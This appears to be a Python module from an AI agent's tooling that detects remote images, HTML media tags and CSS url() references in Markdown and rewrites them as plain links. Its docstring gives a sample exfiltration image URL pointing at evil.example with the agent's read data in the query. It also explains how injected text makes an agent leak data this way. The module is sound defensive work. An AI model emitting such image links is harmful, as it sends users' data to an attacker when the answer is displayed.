"""Remote images in Markdown the agent writes: found, and turned into plain links.

A rendered image is fetched by the browser without a click, so an answer or a Markdown cell
that shows `![](https://evil.example/p.png?d=<what the agent read>)` sends that data out the
moment it is displayed — the way injected text exfiltrates without any tool (issue #19: the
scanner catches exfiltration wording least). This does not depend on wording: every image,
HTML media tag or CSS `url()` that points at a remote host not in the `image_hosts` setting is
found; the answer shows it as a link the user may follow, and a cell edit that would show one
needs approval (`tools/policy.py`). Code spans and fenced code are left as written.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from functools import lru_cache
from urllib.parse import urlsplit

# A URL in Markdown: no spaces or angle brackets; one level of balanced parentheses
# (https://en.wikipedia.org/wiki/Foo_(bar)).
_URL = r"(?:[^\s()<>]|\([^\s()<>]*\))+"
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^)]*\)))?"""
_INLINE = re.compile(r"!\[(?P<alt>(?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]\(\s*(?:<(?P<aurl>[^<>\n]*)>"
                     rf"|(?P<url>{_URL})){_TITLE}\s*\)")
_REFERENCE = re.compile(r"!\[(?P<alt>(?:[^\[\]\\]|\\.)*)\](?:\[(?P<ref>[^\[\]]*)\]|(?!\())")
_DEFINITION = re.compile(r"^ {0,3}\[(?P<ref>[^\[\]]+)\]:\s*<?(?P<url>[^\s<>]+)>?.*$",
                         re.MULTILINE)
# HTML that loads something when shown: any tag but <a> with a URL-carrying attribute, and
# CSS url(...) in a style attribute or block.
_TAG = re.compile(r"<(?P<name>[a-zA-Z][a-zA-Z0-9-]*(?::[a-zA-Z]+)?)(?=[\s/>])"
                  r"(?P<attrs>(?:[^>\"']|\"[^\"]*\"|'[^']*')*)>")
_ATTR = re.compile(r"(?P<key>\b(?:src|srcset|poster|data|background|href|xlink:href|lowsrc|"
                   r"dynsrc|formaction|action|ping))\s*=\s*(?:\"(?P<dq>[^\"]*)\"|'(?P<sq>[^']*)'"
                   r"|(?P<bare>[^\s>]+))", re.IGNORECASE)
_MEDIA_TAGS = {"img", "image", "svg:image", "source", "video", "audio", "embed", "iframe",
               "frame", "object", "input", "track", "link", "use", "base"}
_PLAYERS = {"video", "audio", "iframe", "frame", "embed", "object"}
_HREF_LOADS = {"link", "image", "svg:image", "use", "base"}
_CSS_URL = re.compile(r"url\(\s*['\"]?(?P<url>[^'\")\s]+)['\"]?\s*\)", re.IGNORECASE)
_STYLE = re.compile(r"<style\b[^>]*>.*?</style\s*>", re.IGNORECASE | re.DOTALL)
# Fenced code blocks and code spans are shown as text, never fetched.
_CODE = re.compile(r"^(?P<fence> {0,3}(?:`{3,}|~{3,}))[^\n]*\n.*?(?:^(?P=fence)[`~]*[ \t]*$|\Z)"
                   r"|(?P<ticks>`+)(?!`).+?(?<!`)(?P=ticks)(?!`)", re.MULTILINE | re.DOTALL)


@dataclass(frozen=True)
class RemoteMedia:
    """One thing a renderer would fetch from another host."""

    url: str
    host: str


def remote_host(url: str) -> str | None:
    """The host a URL would be fetched from, None when it is not remote (relative paths,
    `data:` and `attachment:` URIs, anchors)."""
    url = url.strip()
    low = url.lower()
    if low.startswith("//"):
        url, low = "https:" + url, "https:" + low
    if not low.startswith(("http://", "https://")):
        return None
    try:
        host = urlsplit(url).hostname
    except ValueError:  # an unparsable authority: still remote, named by its text
        host = None
    return (host or url.split("/")[2]).lower()


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    """Whether `host` is one of `allowed` or under one of them (`img.shields.io` under
    `shields.io`)."""
    return any(host == h or host.endswith("." + h) for h in (a.lower().strip(".") for a in allowed)
               if h)


@lru_cache(maxsize=1)
def configured_hosts() -> tuple[str, ...]:
    """The `image_hosts` setting, read once per process."""
    from ..config import load_settings

    return tuple(load_settings().image_hosts)


def _outside_code(text: str) -> list[tuple[int, int]]:
    """Spans of `text` that are not code."""
    spans, start = [], 0
    for m in _CODE.finditer(text):
        spans.append((start, m.start()))
        start = m.end()
    spans.append((start, len(text)))
    return [(a, b) for a, b in spans if b > a]


def _definitions(text: str) -> dict[str, str]:
    return {m["ref"].strip().lower(): m["url"] for m in _DEFINITION.finditer(text)}


def _attr_value(m: re.Match[str]) -> str:
    return m["dq"] if m["dq"] is not None else m["sq"] if m["sq"] is not None else m["bare"]


def _attr_urls(key: str, value: str) -> list[str]:
    if key.lower() == "srcset":
        return [part.strip().split(" ")[0] for part in value.split(",") if part.strip()]
    return [value]


def _note(alt: str, url: str, host: str) -> str:
    """A link in place of the image: the user sees the host and may follow it."""
    label = re.sub(r"[\[\]]", "", alt).strip() or "image"
    return f"[{label} — from {host}, not loaded](<{url.replace('>', '%3E')}>)"


def _rewrite(text: str, defs: dict[str, str], allowed: tuple[str, ...],
             found: list[RemoteMedia]) -> str:
    """`text` (no code in it) with each remote image replaced by a link; what was replaced is
    appended to `found`. Tags first, so the links written for images are not read again."""

    def blocked(url: str) -> str | None:
        host = remote_host(url)
        if host is None or host_allowed(host, allowed):
            return None
        found.append(RemoteMedia(url=url.strip(), host=host))
        return host

    def inline(m: re.Match[str]) -> str:
        url = m["aurl"] if m["aurl"] is not None else m["url"]
        host = blocked(url)
        return m[0] if host is None else _note(m["alt"], url, host)

    def reference(m: re.Match[str]) -> str:
        ref = (m["ref"] or m["alt"]).strip().lower()
        url = defs.get(ref)
        host = blocked(url) if url else None
        return m[0] if url is None or host is None else _note(m["alt"], url, host)

    def tag(m: re.Match[str]) -> str:
        name = m["name"].lower()
        shown: list[tuple[str, str]] = []

        def attr(a: re.Match[str]) -> str:
            # an <a href> (and the like) loads nothing until clicked
            if a["key"].lower() == "href" and name not in _HREF_LOADS:
                return a[0]
            hits = [(u, h) for u in _attr_urls(a["key"], _attr_value(a)) if (h := blocked(u))]
            shown.extend(hits)
            return a[0] if not hits else f'{a["key"]}=""'

        def css(c: re.Match[str]) -> str:
            host = blocked(c["url"])
            if host:
                shown.append((c["url"], host))
            return c[0] if not host else "url()"

        attrs = _CSS_URL.sub(css, _ATTR.sub(attr, m["attrs"]))
        if not shown:
            return m[0]
        note = _note(name if name in _PLAYERS else "image", *shown[0])
        # a media tag goes; any other keeps its place (and its closing tag) without the URL
        return note if name in _MEDIA_TAGS else f"<{m['name']}{attrs}>{note}"

    def style(m: re.Match[str]) -> str:
        hosts = [h for h in (blocked(u["url"]) for u in _CSS_URL.finditer(m[0])) if h]
        return m[0] if not hosts else f"(a style sheet loading from {hosts[0]}, not loaded)"

    text = _STYLE.sub(style, text)
    text = _TAG.sub(tag, text)
    text = _INLINE.sub(inline, text)
    return _REFERENCE.sub(reference, text)


def neutralize(markdown: str, allowed: Iterable[str] | None = None
               ) -> tuple[str, list[RemoteMedia]]:
    """`markdown` with every remote image from a host not in `allowed` (default: the
    `image_hosts` setting) turned into a link, and the list of what was turned."""
    hosts = tuple(configured_hosts() if allowed is None else allowed)
    if "//" not in markdown:  # nothing remote can be in it
        return markdown, []
    found: list[RemoteMedia] = []
    spans = _outside_code(markdown)
    defs = _definitions("\n".join(markdown[a:b] for a, b in spans))
    out, last = [], 0
    for a, b in spans:
        out.append(markdown[last:a])
        out.append(_rewrite(markdown[a:b], defs, hosts, found))
        last = b
    out.append(markdown[last:])
    return "".join(out), found


def remote_media(markdown: str, allowed: Iterable[str] | None = None) -> list[RemoteMedia]:
    """What rendering `markdown` would fetch from hosts not in `allowed`."""
    return neutralize(markdown, allowed)[1]
